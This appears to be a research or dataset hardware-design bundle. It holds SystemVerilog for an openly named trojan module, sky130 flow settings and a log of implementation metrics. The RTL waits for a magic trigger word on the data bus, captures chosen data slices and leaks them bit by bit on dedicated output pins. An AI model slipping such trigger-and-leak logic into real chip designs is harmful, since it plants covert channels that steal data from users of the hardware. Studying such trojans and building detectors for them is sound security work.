<file path="src/rtl/trojan_pkg.sv">
`default_nettype none
// +----------------------------------------------------------------------------+
// | Module   : trojan_pkg                                                      |
// | Brief    : Shared state encoding, default trigger word and width helpers.  |
// | Revision : 1.0                                                             |
// +----------------------------------------------------------------------------+
package trojan_pkg;

    typedef enum logic [1:0] {
        ST_IDLE = 2'd0,
        ST_ARM  = 2'd1,
        ST_LEAK = 2'd2,
        ST_DONE = 2'd3
    } state_t;

    localparam logic [63:0] TRIG_VAL_DEFAULT = 64'h0000_0000_0044_ab93;

    // A single-slot bus still needs a 1-bit select so port widths stay legal.
    function automatic int sel_width(input int data_w, input int nib_w);
        int slots;
        slots = data_w / nib_w;
        return (slots > 1) ? $clog2(slots) : 1;
    endfunction

    function automatic int leak_cycles(input int nib_w, input int captures, input int shift_w);
        return (nib_w * captures) / shift_w;
    endfunction

    function automatic int ctr_width(input int max_count);
        return $clog2(max_count + 1);
    endfunction

endpackage
`default_nettype wire

</file>
<file path="src/rtl/trojan_slice_sel.sv">
`default_nettype none
// +----------------------------------------------------------------------------+
// | Module   : trojan_slice_sel                                                |
// | Brief    : Slot mux picking one NIB_W slice of the bus, clamped to top.    |
// | Revision : 1.0                                                             |
// +----------------------------------------------------------------------------+
module trojan_slice_sel
    import trojan_pkg::*;
#(
    parameter int DATA_W = 64,
    parameter int NIB_W  = 4,
    localparam int SEL_W = sel_width(DATA_W, NIB_W)
) (
    input  logic [DATA_W-1:0] data,
    input  logic [SEL_W-1:0]  sel,
    output logic [NIB_W-1:0]  slice
);

    localparam int               C_SLOTS = DATA_W / NIB_W;
    localparam logic [SEL_W-1:0] C_TOP   = SEL_W'(C_SLOTS - 1);

    logic [SEL_W-1:0] w_sel_clamped;

    // Select codes past the last whole slot fall back to the top slot.
    assign w_sel_clamped = (sel > C_TOP) ? C_TOP : sel;

    always_comb begin
        slice = '0;
        for (int i = 0; i < C_SLOTS; i++) begin
            if (w_sel_clamped == SEL_W'(i)) begin
                slice = data[i*NIB_W +: NIB_W];
            end
        end
    end

    if ((DATA_W % NIB_W) != 0) begin : g_spare_bits
        logic w_spare_unused;
        assign w_spare_unused = ^data[DATA_W-1:C_SLOTS*NIB_W];
    end

endmodule
`default_nettype wire

</file>
<file path="src/rtl/trojan_leak_param.sv">
`default_nettype none
// +----------------------------------------------------------------------------+
// | Module   : trojan_leak_param                                               |
// | Brief    : Trigger-armed slice capture, serialised SHIFT_W bits per cycle. |
// | Revision : 1.0                                                             |
// +----------------------------------------------------------------------------+
module trojan_leak_param
    import trojan_pkg::*;
#(
    parameter int          DATA_W   = 64,
    parameter int          NIB_W    = 4,
    parameter int          CAPTURES = 4,
    parameter int          SHIFT_W  = 2,
    parameter int          TRIG_W   = 64,
    parameter logic [63:0] TRIG_VAL = TRIG_VAL_DEFAULT,
    parameter bit          ONE_SHOT = 1'b0
) (
    input  logic               clk,
    input  logic               rst_all_n,
    input  logic [DATA_W-1:0]  data,
    output logic [SHIFT_W-1:0] leak_bits,
    output logic               leak_valid,
    output logic               busy
);

    localparam int C_SEL_W      = sel_width(DATA_W, NIB_W);
    localparam int C_CAP_BITS   = NIB_W * CAPTURES;
    localparam int C_LEAK_CYC   = leak_cycles(NIB_W, CAPTURES, SHIFT_W);
    localparam int C_CAP_CTR_W  = ctr_width(CAPTURES);
    localparam int C_LEAK_CTR_W = ctr_width(C_LEAK_CYC);

    localparam logic [C_CAP_CTR_W-1:0]  C_CAP_LAST  = C_CAP_CTR_W'(CAPTURES - 1);
    localparam logic [C_LEAK_CTR_W-1:0] C_LEAK_LAST = C_LEAK_CTR_W'(C_LEAK_CYC - 1);

    if ((C_CAP_BITS % SHIFT_W) != 0) begin : g_bad_shift
        $error("trojan_leak_param: NIB_W*CAPTURES must be a multiple of SHIFT_W");
    end
    if ((TRIG_W > DATA_W) || (TRIG_W > 64)) begin : g_bad_trig
        $error("trojan_leak_param: TRIG_W exceeds bus or trigger width");
    end

    state_t                   r_state;
    logic [C_SEL_W-1:0]       r_data_q;
    logic [C_SEL_W-1:0]       r_sel;
    logic [C_CAP_CTR_W-1:0]   r_cap_ctr;
    logic [C_LEAK_CTR_W-1:0]  r_leak_ctr;
    logic [C_CAP_BITS-1:0]    r_cap;
    logic [SHIFT_W-1:0]       r_leak_bits;
    logic                     r_leak_valid;
    logic                     r_busy;

    logic [NIB_W-1:0]         w_slice;
    logic                     w_trig;
    logic [C_CAP_BITS-1:0]    w_cap_fill;
    logic [C_CAP_BITS-1:0]    w_cap_shift;

    trojan_slice_sel #(
        .DATA_W (DATA_W),
        .NIB_W  (NIB_W)
    ) u_slice_sel (
        .data   (data),
        .sel    (r_sel),
        .slice  (w_slice)
    );

    assign w_trig      = (data[TRIG_W-1:0] == TRIG_VAL[TRIG_W-1:0]);
    assign w_cap_shift = r_cap >> SHIFT_W;

    for (genvar gi = 0; gi < CAPTURES; gi++) begin : g_slot
        assign w_cap_fill[gi*NIB_W +: NIB_W] =
            (r_cap_ctr == C_CAP_CTR_W'(gi)) ? w_slice : r_cap[gi*NIB_W +: NIB_W];
    end

    // Output flops are loaded one edge ahead from the next capture value so the
    // first leak beat appears in the cycle right after the last capture edge.
    always_ff @(posedge clk or negedge rst_all_n) begin
        if (!rst_all_n) begin
            r_state      <= ST_IDLE;
            r_data_q     <= '0;
            r_sel        <= '0;
            r_cap_ctr    <= '0;
            r_leak_ctr   <= '0;
            r_cap        <= '0;
            r_leak_bits  <= '0;
            r_leak_valid <= 1'b0;
            r_busy       <= 1'b0;
        end else begin
            r_data_q <= data[C_SEL_W-1:0];
            case (r_state)
                ST_IDLE: begin
                    if (w_trig) begin
                        r_sel     <= r_data_q;
                        r_cap_ctr <= '0;
                        r_state   <= ST_ARM;
                        r_busy    <= 1'b1;
                    end
                end
                ST_ARM: begin
                    r_cap <= w_cap_fill;
                    if (r_cap_ctr == C_CAP_LAST) begin
                        r_state      <= ST_LEAK;
                        r_leak_ctr   <= '0;
                        r_leak_valid <= 1'b1;
                        r_leak_bits  <= w_cap_fill[SHIFT_W-1:0];
                    end else begin
                        r_cap_ctr <= r_cap_ctr + 1'b1;
                    end
                end
                ST_LEAK: begin
                    r_cap <= w_cap_shift;
                    if (r_leak_ctr == C_LEAK_LAST) begin
                        r_state      <= ST_DONE;
                        r_leak_valid <= 1'b0;
                        r_leak_bits  <= '0;
                    end else begin
                        r_leak_ctr  <= r_leak_ctr + 1'b1;
                        r_leak_bits <= w_cap_shift[SHIFT_W-1:0];
                    end
                end
                ST_DONE: begin
                    r_cap <= '0;
                    if (!ONE_SHOT) begin
                        r_state <= ST_IDLE;
                        r_busy  <= 1'b0;
                    end
                end
                default: begin
                    r_state      <= ST_IDLE;
                    r_leak_valid <= 1'b0;
                    r_leak_bits  <= '0;
                    r_busy       <= 1'b0;
                end
            endcase
        end
    end

    assign leak_bits  = r_leak_bits;
    assign leak_valid = r_leak_valid;
    assign busy       = r_busy;

endmodule
`default_nettype wire

</file>
<file path="config.mk">
export PLATFORM = sky130hd
export DESIGN_NAME = trojan_leak_param
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trojan_pkg.sv /design/src/rtl/trojan_slice_sel.sv /design/src/rtl/trojan_leak_param.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CORE_MARGIN = 2
export CORE_UTILIZATION = 45
export CTS_CLUSTER_SIZE = 14
export DETAILED_ROUTE_END_ITERATION = 7
export PLACE_DENSITY = 0.71
export SETUP_SLACK_MARGIN = 0.5
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
</file>
<file path="constraint.sdc">
create_clock -name clk -period 3.1 [get_ports clk]
set_input_delay 0.31 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.31 -clock clk [all_outputs]
set_load 0.05 [all_outputs]
</file>
==> impl_summary.log <==
INFO  metric status = completed
INFO  metric critical_path_required = 3.30 ns
INFO  metric grt_setup_unrepaired = false
INFO  metric synth-edff-count = 0
INFO  metric finalInstanceArea = 3740 um2
INFO  metric fmax = 414 MHz
INFO  metric synth_ff_type = dfrtp_1
INFO  metric maxCapViolCount = 0
INFO  metric floorplan.die.height = 84.7 um
INFO  metric design.die.area = 7180 um2
INFO  metric insertion_delay = 0.29 ns
INFO  metric dp.final_hpwl = 6480 um
INFO  metric antenna_violations_before_repair = 0
INFO  metric syn_avg_cell_area = 8.45 um2
INFO  metric highest_ir_drop_seen_on_vdd = 0.220 mV
INFO  metric switching_component_of_the_power = 0.228 mW
INFO  metric maxSlewViolCount = 0
INFO  metric placedCellCount = 480
INFO  metric n_diodes = 0
INFO  metric synth_seq_area_share = 31.6%
INFO  metric worst_setup_path_end_kind = flop
INFO  metric post-route-min-period = 2.41 ns
INFO  metric postSynthCellCount = 347
INFO  metric fin_crit_sh = 77.9%
INFO  metric clock-root-buffer = clkbuf_8
INFO  metric cts_tree = built
INFO  metric quantity_of_i_o_buffers_inserted_on_ports = 69
INFO  metric hold_viol_final = 0
INFO  metric synthesized_flop_and_latch_total = 37
INFO  metric setup_viol_count_final = 0
INFO  metric final_net_count = 487
INFO  metric rows = 29
INFO  metric width_of_the_die = 84.7 um
INFO  metric grt_overflow = 0
INFO  metric power.combinational.fraction = 14.9%
INFO  metric cell_area_after_synthesis = 2930 um2
INFO  metric dr.max_layer_used = met4
INFO  metric number_of_search_and_repair_iterations_in_the_first_detailed_routing_pass = 4
INFO  metric first_global_vias = 2883
INFO  metric p_leak = 1.46 nW
INFO  metric ctsHtreeMaxLevel = 2
INFO  metric power_density = 256 nW/um2
INFO  metric setup.worst_path.class = flop to flop
INFO  metric wl_met1 = 3720 um
INFO  metric area_delta_synth_final = 27.5%
INFO  metric io_pins = 70
INFO  metric cts.path.max_buffers = 2
INFO  metric fin_skew = 0.0109 ns
INFO  metric routabilityCongestion = 0.848
INFO  metric grt.total_usage = 23.8%
INFO  metric power_share_of_the_sequential_group = 50.7%
INFO  metric start_util = 46.5%
INFO  metric instances_no_fill = 488
INFO  metric path_max_fanout = 20
INFO  metric swShare = 23.8%
INFO  metric vias = 2973
INFO  metric most_common_cell_after_layout_fill_and_taps_aside = clkdlybuf4s50_1
INFO  metric p_int = 0.730 mW
INFO  metric core = 6310 um2
INFO  metric drt_drc_violations_left = 0
INFO  metric mostFrequentLayoutCells = clkdlybuf4s50_1 (68), dfrtp_1 (36), nor2_1 (34)
INFO  metric startpoint_class_of_the_critical_path = flop
INFO  metric route.met3.wl = 460 um
INFO  metric dr_wl_met2 = 3840 um
INFO  metric clkSinkCount = 37
INFO  metric detail_route.vias_per_cell = 6.09
INFO  metric layout-drive-gt1-share = 8.52%
INFO  metric reg2reg_slack = 0.69 ns
INFO  metric syn_nets = 424
INFO  metric post_cts_hold_buffer_count = 0
INFO  metric cp_data_arrival_time = 2.62 ns
INFO  metric worst-slew-pin-transition = 0.834 ns
INFO  metric slew_headroom = 44.4%
INFO  metric wl_per_cell = 16.9 um
INFO  metric dpl_cell_area = 3660 um2
INFO  metric first_pass_grt_wire_length = 13900 um
INFO  metric ys.warnings.count = 0
INFO  metric grt_start_max_net_pins = 38
INFO  metric hold_path.class = primary input to async pin
INFO  metric cts-buffers-inserted = 5
INFO  metric detail_route.wirelength = 8230 um
INFO  metric clockPowerShare = 34.5%
INFO  metric synthArstFlopShare = 100%
INFO  metric antenna_violating_nets_post_route = 0
INFO  metric timing.setup.tns = 0 ns
INFO  metric synthDistinctLibCells = 62
INFO  metric drt_first_iter_violations = 166
INFO  metric clk_transition_reported_paths = 0.08 ns
worst max-delay path, cell delays in order, from the launching register on:
cell	delay, ns
dfrtp_1	0.61
buf_4	0.32
or2b_1	0.25
a221oi_1	0.31
a31oi_1	0.09
o2111ai_2	0.20
nand3_1	0.22
o31ai_1	0.30
layer usage:
metal | global-route usage (%) | vias up
met5 | 0 | -
met4 | 7.79 | 0
met3 | 2.75 | 17
met2 | 39.4 | 121
met1 | 32.6 | 1407
li1 | - | 1428
cell usage after synthesis, drive strengths merged, types with 4 or more instances:
| cell | count | area share (%) |
|---|---|---|
| o21ai | 21 | 3.6 |
| nor3 | 5 | 0.85 |
| nand2b | 10 | 2.1 |
| nand3b | 4 | 1.0 |
| nand3 | 9 | 1.5 |
| nor2b | 4 | 0.85 |
| a31oi | 11 | 2.6 |
| inv | 14 | 1.8 |
| dfrtp | 37 | 32 |
| a21oi | 26 | 4.6 |
| o22ai | 7 | 1.5 |
| buf | 13 | 3.0 |
| nand2 | 32 | 4.1 |
| mux2 | 8 | 3.1 |
| clkbuf | 8 | 1.0 |
| mux2i | 9 | 3.1 |
| nor4 | 8 | 2.2 |
| a21o | 7 | 1.8 |
| nor2 | 34 | 4.4 |
| nand4 | 5 | 1.1 |
| a22oi | 4 | 1.0 |
| ha | 11 | 4.7 |
| nor4b | 7 | 2.1 |
cells by family after synthesis:
| kind of cell | after synthesis | share of synthesized area, % |
|---|---|---|
| AOI/OAI and AO/OA | 109 | 25.0 |
| adders and majority gates | 11 | 4.69 |
| buffers and inverters | 35 | 5.84 |
| DFF | 37 | 31.6 |
| muxes | 19 | 7.68 |
| and+or+nand+nor | 136 | 25.2 |
sequential cells by signal, summed over array words and instances, names as in the netlist:
| signal | count |
|---|---|
| r_sel | 4 |
| leak_bits | 2 |
| r_data_q | 4 |
| r_cap_ctr | 3 |
| leak_valid | 1 |
| r_leak_ctr | 4 |
| busy | 1 |
| r_cap | 16 |
| r_state | 2 |
stage by stage:
stage	hold WS, ns	util, %	setup WS [ns]	total power, mW
6_report	0.102	59.2	0.686	0.959
5_1_grt	0.187	59.2	0.541	0.994
4_1_cts	0.135	59.2	0.554	0.962
3_5_place_dp	0.450	57.9	0.407	0.638
3_3_place_gp	0.453	57.9	0.420	0.637
2_1_floorplan	0.0144	-	1.18	0.522
layout make-up:
type | count | area (um2)
Tap cell | 77 | 96.3
Fill cell | 598 | 2570
Sequential cell | 37 | 927
Inverter | 14 | 52.6
Multi-Input combinational cell | 275 | 1840
Timing Repair Buffer | 77 | 746
Clock inverter | 2 | 10.0
Clock buffer | 6 | 72.6
repair_timing:
action	in CTS	in global routing
setup buffers	0	0
gates resized for setup	0	1
endpoints found under the setup margin	0	10
worst paths after layout:
path                                       startpoint                        end  cells after the start
worst max-delay path             r_sel[1]$_DFFE_PN0P_       r_cap[1]$_DFFE_PN0N_                      7
worst min-delay path                        rst_all_n  r_leak_ctr[0]$_DFFE_PN0P_                      1
worst max register to register   r_sel[1]$_DFFE_PN0P_       r_cap[1]$_DFFE_PN0N_                      7
worst min register to register  r_data_q[1]$_DFF_PN0_       r_sel[1]$_DFFE_PN0P_                      1
max in group asynchronous                   rst_all_n       r_sel[0]$_DFFE_PN0P_                      1
min in group clk                r_data_q[1]$_DFF_PN0_       r_sel[1]$_DFFE_PN0P_                      1
power groups by stage:
stage               clock, mW  sequential (mW)  combinational, mW
finish                  0.330            0.486              0.143
global route            0.355            0.486              0.154
CTS                     0.333            0.486              0.143
detailed placement          0            0.495              0.143
global placement            0            0.495              0.142
floorplan                   0            0.495             0.0274
(Power assumes the default switching activity.)
